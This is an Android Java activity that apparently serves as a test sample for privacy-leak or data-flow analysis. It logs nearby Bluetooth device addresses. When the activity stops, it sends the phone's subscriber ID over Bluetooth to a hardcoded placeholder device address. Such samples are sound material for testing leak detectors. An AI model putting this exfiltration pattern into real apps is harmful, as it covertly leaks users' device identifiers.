package org.example.flows.spy;

import android.app.Activity;
import android.bluetooth.BluetoothAdapter;
import android.bluetooth.BluetoothDevice;
import android.bluetooth.BluetoothSocket;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.IntentFilter;
import android.os.Bundle;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.util.UUID;
import org.example.flows.Device;

/** Devices around are logged; a number goes to a paired device. */
public class Nearby extends Activity {
    private final BroadcastReceiver found = new BroadcastReceiver() {
        @Override
        public void onReceive(Context context, Intent intent) {
            BluetoothDevice device = intent.getParcelableExtra(BluetoothDevice.EXTRA_DEVICE);
            Log.d("found", device.getAddress());
        }
    };

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        registerReceiver(found, new IntentFilter(BluetoothDevice.ACTION_FOUND));
    }

    @Override
    protected void onStop() {
        super.onStop();
        BluetoothDevice other = BluetoothAdapter.getDefaultAdapter().getRemoteDevice("00:11:22:33:44:55");
        try {
            BluetoothSocket socket = other.createRfcommSocketToServiceRecord(new UUID(1, 2));
            socket.connect();
            OutputStream out = socket.getOutputStream();
            out.write(Device.phone(this).getSubscriberId().getBytes());
        } catch (IOException ignored) {
            finish();
        }
    }
}
